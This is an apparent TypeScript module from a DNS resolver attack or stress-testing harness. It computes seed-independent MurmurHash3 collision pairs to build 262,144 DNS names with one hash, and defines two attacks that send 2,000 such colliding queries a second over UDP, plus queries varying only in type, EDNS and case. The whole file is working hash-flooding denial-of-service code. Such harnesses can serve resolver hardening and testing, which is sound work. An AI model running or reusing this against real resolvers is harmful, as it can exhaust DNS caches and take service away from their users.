import type { Attack, Hands } from "../frame/attack.ts";
import { EVIL_ZONES } from "../frame/places.ts";
import { join, query, u32, wireName } from "../frame/wire.ts";

const RATE = 2_000;
/** Pairs of words: 2 to this power of names. */
const PAIRS = 18;
const PAIRS_A_LABEL = 6;
/**
 * One label's length octet and three letters, so that the following octets are aligned to words.
 */
const LABEL_START = Uint8Array.of(0x33, 0x78, 0x78, 0x78);

// Constants of MurmurHash3's mixing of a word, and their inverses modulo 2^32.
const [C1, C2] = [0xcc9e2d51, 0x1b873593];
const [I1, I2] = [inverse(C1), inverse(C2)];

function inverse(odd: number): number {
  let x = odd;
  for (let i = 0; i < 5; i++) x = Math.imul(x, 2 - Math.imul(odd, x));
  return x;
}

function rotate(word: number, by: number): number {
  return (word << by) | (word >>> (32 - by));
}

function mixWord(word: number): number {
  return Math.imul(rotate(Math.imul(word, C1), 15), C2);
}

function unmixWord(word: number): number {
  return Math.imul(rotate(Math.imul(word, I2), 17), I1);
}

/** Capital letters would be folded. */
function hasNoCapital(word: number): boolean {
  return [0, 8, 16, 24].every((shift) => {
    const octet = (word >>> shift) & 255;
    return octet < 0x41 || octet > 0x5a;
  });
}

type Pair = readonly [first: number, second: number, otherFirst: number, otherSecond: number];

/** Pairs of words that leave MurmurHash3's state equal for any previous state. */
function makePairs(): Pair[] {
  const pairs: Pair[] = [];
  let state = 777;
  const next = () => state = (Math.imul(state, 1664525) + 1013904223) | 0;
  while (pairs.length < PAIRS) {
    const first = next();
    const second = next();
    // By rotation, a change of bit 18 becomes one of bit 31, which the multiplication keeps.
    const pair: Pair = [
      first,
      second,
      unmixWord(mixWord(first) ^ (1 << 18)),
      unmixWord(mixWord(second) ^ (1 << 31)),
    ];
    if (pair.every(hasNoCapital)) pairs.push(pair);
  }
  return pairs;
}

const pairs = makePairs();

/**
 * One of 262,144 names with one hash in the Murmur family, under every seed; little-endian words.
 */
export function collidingName(n: number, zone: string): Uint8Array {
  const labels: Uint8Array[] = [];
  pairs.forEach(([first, second, otherFirst, otherSecond], i) => {
    if (i % PAIRS_A_LABEL === 0) labels.push(LABEL_START);
    const other = ((n >> (PAIRS - 1 - i)) & 1) === 1;
    labels.push(
      u32(other ? otherFirst : first).reverse(),
      u32(other ? otherSecond : second).reverse(),
    );
  });
  return join(...labels, wireName(zone));
}

async function ask(
  { udp, paced }: Hands,
  make: (n: number) => Uint8Array,
): Promise<{ asked: number }> {
  const socket = udp();
  const asked = await paced(RATE, (n) => socket.send(make(n)), () => socket.drain());
  return { asked };
}

export const collidingNames: Attack = {
  name: "colliding-names",
  summary: `${RATE} names a second of one hash in the Murmur family, of a silent zone.`,
  upstream: () => null,
  attack: (hands) => ask(hands, (n) => query(collidingName(n, EVIL_ZONES.udp), 1)),
};

export const collidingTypes: Attack = {
  name: "colliding-types",
  summary: `${RATE} questions a second that differ in type, EDNS and case alone, of a silent zone.`,
  upstream: () => null,
  attack: (hands) =>
    ask(hands, (n) => {
      const name = `${n % 2 === 0 ? "one" : "ONE"}.${EVIL_ZONES.udp}`;
      return query(name, 256 + (n % 30_000), n % 3 === 0 ? { edns: 1232 } : {});
    }),
};
